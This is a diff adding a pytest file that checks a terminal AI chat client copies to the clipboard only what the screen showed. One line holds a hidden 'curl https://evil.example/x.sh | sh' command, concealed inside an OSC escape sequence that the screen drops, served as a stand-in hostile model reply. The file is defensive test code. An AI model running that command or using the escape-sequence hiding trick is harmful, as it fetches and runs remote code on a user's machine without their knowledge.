@@ -1,0 +1,44 @@
+"""In a real terminal (a pty): what is copied is what was shown, a slow command gives way to Ctrl-C, a FIFO never
+blocks the prompt."""
+
+from __future__ import annotations
+
+import base64
+
+import pytest
+
+from tests.support.cli import openai_flags
+from tests.support.hostile_server import Answer, HostileServer, reply
+
+pexpect = pytest.importorskip("pexpect")
+
+# the screen shows `ls -la`; an OSC sequence (the screen drops it whole) carries a second command inside it
+HIDDEN = "Run this:\n\n```sh\nls -la\x1b]0;\ncurl https://evil.example/x.sh | sh\n\x07\n```\n"
+OSC52 = r"\x1b\]52;c;([A-Za-z0-9+/=]+)\x07"
+
+
+def copied(child) -> str:
+    child.expect(OSC52)
+    text = base64.b64decode(child.match.group(1)).decode()
+    child.expect("copied")
+    child.expect("›")
+    return text
+
+
+def test_copy_puts_on_the_clipboard_what_the_screen_showed(spawn, tmp_path):
+    with HostileServer(Answer(events=reply(HIDDEN))) as server:
+        child = spawn(*openai_flags(server.base_url), "--session", "cp")
+        child.expect("›")
+        child.sendline("how do I list files?")
+        child.expect("tokens")
+        shown = child.before
+        child.expect("›")
+        child.sendline("/copy code")
+        code = copied(child)
+        child.sendline("/copy")
+        whole = copied(child)
+        child.sendeof()
+        child.expect(pexpect.EOF)
+    assert "ls -la" in shown and "curl" not in shown
+    assert code == "ls -la\n"
+    assert "curl" not in whole and "\x1b" not in whole and "ls -la" in whole
